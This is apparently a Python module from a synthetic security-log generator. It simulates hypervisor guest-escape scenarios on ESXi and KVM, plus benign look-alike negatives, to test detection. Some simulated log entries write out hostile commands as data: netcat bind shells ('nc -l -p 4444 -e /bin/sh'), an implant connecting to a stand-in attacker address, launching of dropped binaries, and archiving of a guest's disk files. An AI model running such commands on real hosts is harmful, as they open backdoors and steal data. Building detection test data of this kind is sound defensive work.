"""Guests that break out of their hypervisor (job escape_chain): on ESXi and on KVM, whole and with parts of the chain missing."""

from __future__ import annotations

from datetime import datetime, timedelta

from . import doings as do
from .lines import Line, audit_record, esxi, virt_control
from .parts import BUILDS, DAY, HOUR, Case, Host, Vm
from .world import World

JOB = "escape_chain"
ATTACKER = "203.0.113."
SVIRT = "system_u:system_r:svirt_t:s0:c12,c703"


def esxi_whole(world: World, time: datetime) -> None:
    """Denied hypercalls, a crash of the VMM process, a strange program, a login from the guest's own address."""
    vm, host, case = _guest(world, time, "esxi", "esxi_whole")
    world.write(do.ESXI, *(_hypercall(vm, host, time + do.seconds(20 * n), n) for n in range(world.rng.randrange(3, 9))), case=case)
    crash = time + timedelta(minutes=world.rng.uniform(5, 90))
    _core(world, crash, host, case)
    do.command(world, crash + do.seconds(200), host.name, "chmod +x /tmp/.u; nohup /tmp/.u -l 8443 &", case=case)
    do.vob(world, crash + do.seconds(203), host.name, "esx.audit.uw.security.execInstalledOnly.violation",
           f"Execution of unknown (non VIB installed) binary '/tmp/.u' prevented. {do.MALWARE}", case)
    do.esxi_ssh(world, crash + timedelta(minutes=world.rng.uniform(6, 40)), host.name, "root", vm.address, case)


def esxi_moved(world: World, time: datetime) -> None:
    """The guest probes on one host, is migrated by DRS, and breaks out on the other."""
    vm, old, case = _guest(world, time, "esxi", "esxi_moved_between")
    world.write(do.ESXI, *(_hypercall(vm, old, time + do.seconds(15 * n), n) for n in range(6)), case=case)
    move = time + timedelta(minutes=40)
    others = [host for host in world.hosts.values() if host.kind == "esxi" and host.cluster == old.cluster and host is not old]
    new = world.rng.choice(others)
    world.use(new.name)
    world.move(move, vm.name, new.name, "drs")
    case.names(host=new.name)
    crash = move + timedelta(minutes=25)
    _core(world, crash, new, case)
    do.command(world, crash + do.seconds(240), new.name, "/tmp/implant --connect 203.0.113.90", case=case)
    do.vob(world, crash + do.seconds(242), new.name, "esx.audit.uw.security.execInstalledOnly.warning",
           f"Execution of unknown (non VIB installed) binary '/tmp/implant'. {do.MALWARE}", case)


def esxi_quiet(world: World, time: datetime) -> None:
    """No denied call is seen: a crash of the VMM process, then a listener of the host that nobody installed."""
    vm, host, case = _guest(world, time, "esxi", "esxi_without_precursor")
    _core(world, time, host, case)
    do.command(world, time + timedelta(minutes=8), host.name, "nc -l -p 4444 -e /bin/sh", case=case)
    do.vob(world, time + timedelta(minutes=9), host.name, "esx.audit.uw.security.execInstalledOnly.violation",
           f"Execution of unknown (non VIB installed) binary '/tmp/vmtools.bin' prevented. {do.MALWARE}", case)
    neighbour = world.rng.choice([other for other in world.on(host.name, time) if other is not vm and world.calm(other, time, time + HOUR)])
    case.names(vm=neighbour.name)
    world.write(do.ESXI, audit_record(time + timedelta(minutes=30), host.name, "vm.storage.add", subject="root", object=vm.vmx,
                                      result="success", ip="127.0.0.1", path=neighbour.disk, opID="esxcli-5"), case=case)


def kvm_whole(world: World, time: datetime) -> None:
    """QEMU is denied files of others, dies of a signal, and a shell starts under its account."""
    vm, host, case = _guest(world, time, "kvm", "kvm_whole")
    for n in range(world.rng.randrange(2, 5)):
        do.records(world, time + do.seconds(40 * n), host.name, "type=AVC msg={stamp}: avc:  denied  { read write } for  pid=1377 "
                   f'comm="qemu-kvm" name="db{n:02d}.qcow2" dev="dm-0" ino=12981 scontext={SVIRT} '
                   "tcontext=system_u:object_r:svirt_image_t:s0:c44,c991 tclass=file permissive=0", case=case)
    crash = time + timedelta(minutes=world.rng.uniform(3, 60))
    _abend(world, crash, vm, host, case)
    _shell_of_qemu(world, crash + do.seconds(50), host, case)
    do.ssh(world, crash + timedelta(minutes=12), host.name, "root", vm.address, case, "password")


def kvm_seccomp(world: World, time: datetime) -> None:
    """QEMU calls what its filter forbids; later its process runs a program on the host."""
    _, host, case = _guest(world, time, "kvm", "kvm_program")
    do.records(world, time, host.name, "type=SECCOMP msg={stamp}: auid=4294967295 uid=64055 gid=64055 ses=4294967295 pid=1379 "
               'comm="qemu-system-x86" exe="/usr/bin/qemu-system-x86_64" sig=31 arch=c000003e syscall=59 compat=0 ip=0x7f2f4a1b2c3d '
               "code=0x80000000", case=case)
    _shell_of_qemu(world, time + timedelta(minutes=7), host, case)


def esxi_silent(world: World, time: datetime) -> None:
    """The exploit works and crashes nothing: denied calls while it looks for the way, then a backdoor on the host (so was VMSA-2025-0004
    used).
    """
    vm, host, case = _guest(world, time, "esxi", "esxi_without_crash")
    world.write(do.ESXI, *(_hypercall(vm, host, time + do.seconds(9 * n), n) for n in range(world.rng.randrange(2, 6))), case=case)
    do.command(world, time + timedelta(minutes=world.rng.uniform(2, 30)), host.name, "nohup nc -l -p 31337 -e /bin/sh &", case=case)


def esxi_followed(world: World, time: datetime) -> None:
    """As DRS migrates the guest while the intruder tries, the way out is found on another host than the one that denied."""
    vm, old, case = _guest(world, time, "esxi", "esxi_moved_without_crash")
    world.write(do.ESXI, *(_hypercall(vm, old, time + do.seconds(20 * n), n) for n in range(4)), case=case)
    move = time + timedelta(minutes=world.rng.uniform(20, 120))
    new = world.rng.choice([host for host in world.hosts.values() if host.cluster == old.cluster and host is not old])
    world.use(new.name)
    world.move(move, vm.name, new.name, "drs")
    case.names(host=new.name)
    later = move + timedelta(minutes=world.rng.uniform(5, 40))
    do.command(world, later, new.name, "chmod 755 /tmp/vmtoolsd; /tmp/vmtoolsd &", case=case)


def esxi_panic(world: World, time: datetime) -> None:
    """The first tries bring the whole host down; when it is up again, one works."""
    vm, host, case = _guest(world, time, "esxi", "esxi_host_panic")
    world.write(do.ESXI, *(_hypercall(vm, host, time + do.seconds(30 * n), n) for n in range(5)), case=case)
    up = time + timedelta(minutes=world.rng.uniform(90, 300))
    _crashed(world, up, host, "#PF Exception 14 in world 2101544:vmm0:guest", case)
    do.command(world, up + timedelta(minutes=world.rng.uniform(10, 45)), host.name, "nohup nc -l -p 8443 -e /bin/sh &", case=case)


def esxi_by_hand(world: World, time: datetime) -> None:
    """Out of a crash a shell, in which somebody who never logged in looks round with the host's own tools and takes a disk."""
    vm, host, case = _guest(world, time, "esxi", "esxi_own_tools")
    _core(world, time, host, case)
    for nth, text in enumerate(("vim-cmd vmsvc/getallvms", "esxcli network ip connection list",
                                f"tar czf /vmfs/volumes/ds02/.x.tgz {vm.vmx.rsplit('/', 1)[0]}")):
        do.command(world, time + timedelta(minutes=4 + 7 * nth), host.name, text, case=case)


def esxi_password(world: World, time: datetime) -> None:
    """What the host kept in its memory is enough: after the crash somebody logs in as root, from the guest."""
    vm, host, case = _guest(world, time, "esxi", "esxi_login_from_guest")
    world.write(do.ESXI, *(_hypercall(vm, host, time + do.seconds(12 * n), n) for n in range(5)), case=case)
    crash = time + timedelta(minutes=world.rng.uniform(2, 50))
    _core(world, crash, host, case)
    do.esxi_ssh(world, crash + timedelta(hours=world.rng.uniform(0.5, 12)), host.name, "root", vm.address, case)


def esxi_neighbour(world: World, time: datetime) -> None:
    """By a hole that nobody knows yet, on a host with all patches: out of a crash into another guest, through the tools inside it."""
    newest = max(host.build for host in world.hosts.values() if host.kind == "esxi")
    patched = {host.name for host in world.hosts.values() if host.build == newest}
    vm, host, case = _guest(world, time, "esxi", "esxi_second_guest", hosts=patched)
    world.write(do.ESXI, *(_hypercall(vm, host, time + do.seconds(14 * n), n) for n in range(4)), case=case)
    crash = time + timedelta(minutes=world.rng.uniform(2, 50))
    _core(world, crash, host, case)
    near = [other for other in world.on(host.name, time) if other is not vm and world.calm(other, time, time + 4 * HOUR)]
    other = world.rng.choice(near)
    case.names(vm=other.name)
    do.host_guest_operation(world, crash + timedelta(minutes=world.rng.uniform(20, 90)), other, "root", case=case)


def esxi_attempt(world: World, time: datetime) -> None:
    """A public exploit is tried on a host that was not patched against it; the VMM process dies, and that is all."""
    old = [host for host in world.hosts.values() if host.build == BUILDS[0]]
    vm, host, case = _guest(world, time, "esxi", "esxi_attempt", hosts={host.name for host in old})
    world.write(do.ESXI, *(_hypercall(vm, host, time + do.seconds(11 * n), n) for n in range(6)), case=case)
    _core(world, time + timedelta(minutes=world.rng.uniform(2, 40)), host, case)


def kvm_fuzzed(world: World, time: datetime) -> None:
    """A guest reads and writes registers at random until KVM gives way; then its process has a shell on the host."""
    vm, host, case = _guest(world, time, "kvm", "kvm_fuzzed")
    for nth in range(world.rng.randrange(60, 120)):
        _register(world, time + do.seconds(1.5 * nth), vm, host, nth, case)
    later = time + timedelta(minutes=world.rng.uniform(5, 40))
    do.records(world, later, host.name, "type=SYSCALL msg={stamp}: arch=c000003e syscall=313 success=yes exit=0 a0=3 a1=0 a2=0 a3=0 "
               "items=0 ppid=1 pid=6235 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 "
               'comm="insmod" exe="/usr/bin/kmod" key="modules"', 'type=KERN_MODULE msg={stamp}: name="kvm_hlp"', case=case)


ATTACKS = (esxi_whole, esxi_moved, esxi_quiet, kvm_whole, kvm_seccomp, esxi_silent, esxi_followed, esxi_panic, esxi_by_hand,
           esxi_password, esxi_neighbour, esxi_attempt, kvm_fuzzed)


# --- negatives: named in the design, and what looks alike ---------------------------------------------------------------------------


def hardware_mce(world: World, time: datetime) -> None:
    """A machine check kills a VMM process; a technician looks at the hardware at the console, and later the host goes down."""
    _, host, case = _guest(world, time, "esxi", "hardware_mce", negative=True)
    world.write(do.ESXI, *(esxi(time + do.seconds(n), host.name, "vmkernel", f"cpu{n}:2097512)ALERT: MCA: 200: SRAR Excp G7 B{n} "
                                "Sbd80000000100134 A1b2c0 M86 P1b2c0/40 Cache Hierarchy: Level 0 Data Cache DataRead Error.", 181)
                           for n in range(3)), case=case)
    do.vob(world, time + do.seconds(4), host.name, "esx.problem.apei.bert.memory.error.fatal",
           "A fatal memory error occurred. The memory error occurred on physical address 0x7f3a1000.", case)
    _core(world, time + do.seconds(20), host, case)
    for nth, text in enumerate(("esxcli hardware ipmi sel list", "localcli hardware memory get", "vmkerrcode -l")):
        do.command(world, time + timedelta(minutes=18 + 3 * nth), host.name, text, case=case)
    _crashed(world, time + timedelta(minutes=40), host, "Machine Check Exception on PCPU3 in world 2097512:idle3", case)


def live_update(world: World, time: datetime) -> None:
    """QEMU is updated over the VPN and guests are started anew with it, each asking for registers as it boots; one ends badly."""
    vm, host, case = _guest(world, time, "kvm", "live_update_restart", negative=True)
    do.records(world, time - do.seconds(60), host.name, "type=SOFTWARE_UPDATE msg={stamp}: pid=4842 uid=0 auid=0 ses=3 msg='op=update "
               'sw="qemu-kvm-core-7.2.0-14.el9.x86_64" sw_type=rpm key_enforce=0 gpg_res=1 root_dir="/" comm="dnf" '
               'exe="/usr/bin/python3.9" hostname=? addr=? terminal=pts/0 res=success\'', case=case)
    person = world.rng.choice(world.people[:12])
    do.ssh(world, time + timedelta(minutes=3), host.name, "root", person.vpn, case, minutes=40)
    guests = [other for other in world.on(host.name, time) if other is not vm and world.calm(other, time, time + HOUR)]
    for nth, guest in enumerate([*guests[:4], vm]):
        moment = time + do.seconds(30 * nth)
        for register in range(8):
            _register(world, moment + do.seconds(12 + register / 4), guest, host, register, case)
        reason = "failed" if guest is vm else "shutdown"
        world.write(do.AUDIT, virt_control(moment, world.serial(), guest.name, guest.uuid, "stop", reason, node=host.name),
                    virt_control(moment + do.seconds(8), world.serial(), guest.name, guest.uuid, "start", "booted", node=host.name),
                    case=case)
        case.names(vm=guest.name)


def psod(world: World, time: datetime) -> None:
    """A purple screen without anything before it; the host restarts and administrators look after it."""
    _, host, case = _guest(world, time, "esxi", "psod_without_precursor", negative=True)
    world.quiet.add(host.name)
    _crashed(world, time, host, "#PF Exception 14 in world 2097241:HELPER_MISC_Q", case)
    person, bastion = world.rng.choice(world.people[:12]), world.vms["infra-bastion01"]
    do.esxi_ssh(world, time + timedelta(minutes=25), host.name, "root", bastion.address, case)
    do.command(world, time + timedelta(minutes=26), host.name, "esxcli system coredump partition list", case=case)
    do.vcenter_login(world, time + timedelta(minutes=20), person.name, person.office)


def investigated(world: World, time: datetime) -> None:
    """A VMM process crashes by a fault of its own, and an administrator collects the dump from the bastion."""
    _, host, case = _guest(world, time, "esxi", "crash_investigated", negative=True)
    _core(world, time, host, case)
    do.esxi_ssh(world, time + timedelta(minutes=50), host.name, "root", world.vms["infra-bastion02"].address, case)
    do.command(world, time + timedelta(minutes=52), host.name, "vm-support -w /vmfs/volumes/ds01/support", case=case)


def precursor_alone(world: World, time: datetime) -> None:
    """A guest's old tools ask for what is denied, again and again; nothing else happens."""
    vm, host, case = _guest(world, time, "esxi", "precursor_alone", negative=True)
    world.write(do.ESXI, *(_hypercall(vm, host, time + do.seconds(300 * n), n) for n in range(5)), case=case)


NEGATIVES = (hardware_mce, live_update, psod, investigated, precursor_alone)


def _guest(world: World, time: datetime, kind: str, attack: str, negative: bool = False, hosts: set[str] | None = None,
           ) -> tuple[Vm, Host, Case]:
    """A guest and its host (one of some), touched by nothing else."""
    for _ in range(20):
        host = world.take_host(kind, time, hosts)
        try:
            vm = world.take_vm(time - DAY / 4, time + DAY / 4, host=host.name)
        except LookupError:
            continue
        case = world.case(JOB, attack, negative)
        case.names(vm=vm.name, host=host.name)
        return vm, host, case
    raise LookupError(f"no calm guest on {kind}")


def _register(world: World, time: datetime, vm: Vm, host: Host, number: int, case: Case) -> None:
    """KVM was asked for a register that it does not know; the kernel names the process of the guest."""
    act = ("unhandled rdmsr: 0x{:x}", "unhandled wrmsr: 0x{:x} data 0x0")[number % 2].format(0x140 + number * 7)
    do.kernel(world, time, host.name, f"kvm [{4000 + int(vm.moref[3:])}]: vcpu0, guest rIP: 0xffffffff81064 {act}", case)


def _hypercall(vm: Vm, host: Host, time: datetime, number: int) -> Line:
    return audit_record(time, host.name, "vm.hypercall.denied", subject="vmx", object=vm.vmx, result="failure", reason="Permission denied",
                        type="Backdoor", value=str(60 + number))


def _core(world: World, time: datetime, host: Host, case: Case) -> None:
    do.vob(world, time, host.name, "esx.problem.application.core.dumped", "An application (/bin/vmx) running on ESXi host has crashed "
           "(1 time(s) so far). A core file might have been created at /var/core/vmx-zdump.000.", case)


def _crashed(world: World, time: datetime, host: Host, why: str, case: Case) -> None:
    do.vob(world, time, host.name, "esx.audit.host.boot", "Host has booted.", case)
    do.vob(world, time + do.seconds(1), host.name, "esx.problem.host.coredump", "An unread host kernel core dump has been found.", case)
    down = f"{time - timedelta(minutes=9):%Y-%m-%dT%H:%M:%S}.000Z"
    do.vob(world, time + do.seconds(2), host.name, "esx.audit.host.crash.reason",
           f"The crash at {down} occurred due to: {why}. More details will be available in the generated vmkernel-zdump.", case)


def _abend(world: World, time: datetime, vm: Vm, host: Host, case: Case) -> None:
    do.records(world, time, host.name, "type=ANOM_ABEND msg={stamp}: auid=4294967295 uid=64055 gid=109 ses=4294967295 pid=5123 "
               'comm="qemu-system-x86" exe="/usr/bin/qemu-system-x86_64" sig=11 res=1', case=case)
    world.write(do.AUDIT, virt_control(time + do.seconds(0.3), world.serial(), vm.name, vm.uuid, "stop", "failed", node=host.name),
                case=case)


def _shell_of_qemu(world: World, time: datetime, host: Host, case: Case) -> None:
    do.records(world, time, host.name, "type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55f1 a1=7ffc a2=0 a3=0 "
               "items=2 ppid=6234 pid=6235 auid=4294967295 uid=64055 gid=64055 euid=64055 suid=64055 fsuid=64055 egid=64055 sgid=64055 "
               'fsgid=64055 tty=(none) ses=4294967295 comm="dash" exe="/usr/bin/dash" key="qemu_user_exec"',
               'type=EXECVE msg={stamp}: argc=3 a0="/bin/sh" a1="-c" a2="id"', case=case)
